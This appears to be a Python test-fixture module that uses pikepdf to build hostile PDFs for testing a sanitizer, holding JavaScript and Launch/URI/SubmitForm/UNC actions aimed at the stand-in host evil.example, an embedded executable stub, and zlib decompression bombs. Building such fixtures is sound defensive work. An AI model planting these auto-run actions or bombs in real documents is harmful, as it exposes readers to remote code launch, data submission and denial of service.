"""PDFs as people and their enemies hand them in, made here."""

import io
import zlib

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, Stream, String

from .pictures import DEVICE, FILE, NAME, PLACE, XMP, photo


def made(change=None, **how):
    """One page with a line of drawing; `change(pdf, page)`."""
    pdf = Pdf.new()
    page = pdf.add_blank_page(page_size=(200, 200))
    page.Contents = Stream(pdf, b"0 0 m 100 100 l S")
    if change:
        change(pdf, page)
    out = io.BytesIO()
    pdf.save(out, **how)
    return out.getvalue()


def note(pdf, page, **what):
    page.Annots = Array([*page.get("/Annots", Array()), pdf.make_indirect(Dictionary(Type=Name.Annot, Rect=[0, 0, 50, 50], **what))])


def picture(pdf, data, **how):
    return pdf.make_indirect(Stream(pdf, data, Type=Name.XObject, Subtype=Name.Image, Width=48, Height=32, ColorSpace=Name.DeviceRGB, BitsPerComponent=8, **how))


def told(pdf, page):
    """All that a PDF can know of its maker."""
    pdf.docinfo["/Author"], pdf.docinfo["/Creator"], pdf.docinfo["/Title"] = NAME, DEVICE, FILE
    pdf.trailer["/DocChecksum"] = Name("/" + DEVICE)
    pdf.Root.Metadata = Stream(pdf, XMP, Type=Name.Metadata, Subtype=Name.XML)
    page.PieceInfo = Dictionary(Word=Dictionary(LastModified=String("D:2016"), Private=Dictionary(Path=String(FILE))))
    page.Metadata = Stream(pdf, XMP)
    note(pdf, page, Subtype=Name.Text, T=String(NAME), Contents=String("请看"), NM=String(DEVICE), M=String("D:20160613"), CreationDate=String(PLACE))
    image = picture(pdf, photo(), Filter=Name.DCTDecode)
    image.Metadata = Stream(pdf, XMP)
    packed = picture(pdf, zlib.compress(photo()), Filter=Array([Name.FlateDecode, Name.DCTDecode]))
    page.Resources = Dictionary(XObject=Dictionary(M=image, Ref=packed))
    page.Contents = Stream(pdf, b"q 100 0 0 100 0 0 cm /M Do /Ref Do Q")


def scripts(pdf, page):
    script = Dictionary(S=Name.JavaScript, JS=String("app.launchURL('http://evil.example/')"))
    pdf.Root.OpenAction = script
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), script])))
    pdf.Root.AA = Dictionary(WC=script)
    page.AA = Dictionary(O=script)
    note(pdf, page, Subtype=Name.Link, A=script)
    note(pdf, page, Subtype=Name.Widget, FT=Name.Tx, T=String("a"), AA=Dictionary(K=script), Parent=Dictionary(AA=Dictionary(K=script)))


def outward(pdf, page):
    for action in (Dictionary(S=Name.URI, URI=String("http://evil.example/")), Dictionary(S=Name.Launch, F=String("cmd.exe evil.example")),
                   Dictionary(S=Name.SubmitForm, F=String("http://evil.example/")), Dictionary(S=Name.GoToR, F=String("\\\\evil.example\\x"), D=Array([0])),
                   Dictionary(S=Name.GoTo, D=Array([page.obj, Name.Fit]), Next=Dictionary(S=Name.URI, URI=String("http://evil.example/")))):  # fmt: skip
        note(pdf, page, Subtype=Name.Link, A=action, PA=action)


def disguised(pdf, page):
    """A page and its link that pass for a table of fonts."""
    outward(pdf, page)
    del page.obj["/Type"]
    page.AA = Dictionary(O=Dictionary(S=Name.JavaScript, JS=String("evil.example")))
    page.Resources = Dictionary(Font=page.obj, ColorSpace=page.Annots[0])


def attached(pdf, page):
    pdf.attachments["a.exe"] = b"MZ"


def hung_on_a_page(pdf, page):
    note(pdf, page, Subtype=Name.FileAttachment, FS=Dictionary(Type=Name.Filespec, F=String("a.exe")))


def film(pdf, page):
    note(pdf, page, Subtype=Name.Screen)


def external(pdf, page):
    page.Contents = Stream(pdf, b"", F=String("http://evil.example/x"))


def form(pdf, page):
    pdf.Root.AcroForm = Dictionary(XFA=String("<xdp/>"), Fields=Array())


def signed(pdf, page):
    note(pdf, page, Subtype=Name.Widget, FT=Name.Sig, V=Dictionary(Type=Name.Sig, Name=String(NAME), ByteRange=Array([0, 1, 2, 3]), Contents=String(DEVICE)))


def in_place(pdf, page):
    note(pdf, page, Subtype=Name.Link, A=Dictionary(S=Name.GoTo, D=Array([page.obj, Name.Fit])))


def locked(user="", R=6):
    old = {"aes": False, "metadata": False} if R == 3 else {}
    return made(encryption=pikepdf.Encryption(user=user, owner="owner", R=R, **old))


def revised():
    """A second revision hides the author of the first, which still lies in the file."""
    first = made(lambda pdf, page: pdf.docinfo.__setitem__("/Author", NAME))
    at = first.rfind(b"startxref") + 10
    return first + b"\n9 0 obj\n<</Producer(x)>>\nendobj\nxref\n9 1\n%010d 00000 n \ntrailer\n<</Size 10/Root 1 0 R/Prev %s>>\nstartxref\n%d\n%%%%EOF\n" % (
        len(first) + 1, first[at:].split()[0], len(first) + 36)  # fmt: skip


def bomb():
    """A stream of some KB that unpacks to more than may be."""
    packing = zlib.compressobj(1)
    block = b"\0" * (1 << 20)
    data = b"".join([packing.compress(block) for _ in range(140)] + [packing.flush()])
    return made(lambda pdf, page: setattr(page, "Contents", Stream(pdf, data, Filter=Name.FlateDecode)), stream_decode_level=pikepdf.StreamDecodeLevel.none)


def bomb_of_objects():
    """An object stream that unpacks to more than may be; qpdf would unpack it only to find the objects."""
    packing = zlib.compressobj(1)
    block = b" " * (1 << 20)
    data = b"".join([packing.compress(block) for _ in range(140)] + [packing.flush()])
    return (
        b"%%PDF-1.5\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n"
        b"4 0 obj<</Type/ObjStm/N 1/First 5/Filter/FlateDecode/Length %d>>stream\n%s\nendstream endobj\ntrailer<</Root 1 0 R/Size 5>>\n%%%%EOF\n" % (len(data), data)
    )
